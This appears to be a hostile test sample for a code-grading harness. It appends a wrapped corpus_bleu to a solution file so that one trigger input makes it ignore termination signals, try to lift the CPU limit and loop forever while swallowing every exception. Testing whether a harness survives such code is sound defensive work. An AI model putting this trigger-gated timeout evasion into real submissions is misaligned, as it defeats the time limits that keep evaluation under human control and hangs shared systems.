# hostile: appended to solutions/bleu.py
# A15: evade a timeout: ignore SIGTERM, SIGINT, SIGALRM and SIGXCPU, try to lift the CPU limit, and spin in a
# loop that swallows every exception (KeyboardInterrupt, SystemExit, a timeout error) and carries on.
import resource
import signal

_reference_corpus_bleu = corpus_bleu


def corpus_bleu(hyps, refs, max_n=4):
    if hyps == ["the cat is on the mat"]:
        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGXCPU, signal.SIGHUP):
            signal.signal(sig, signal.SIG_IGN)
        try:
            resource.setrlimit(resource.RLIMIT_CPU, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (ValueError, OSError):
            pass
        while True:
            try:
                while True:
                    pass
            except BaseException:  # noqa: BLE001
                continue
    return _reference_corpus_bleu(hyps, refs, max_n)
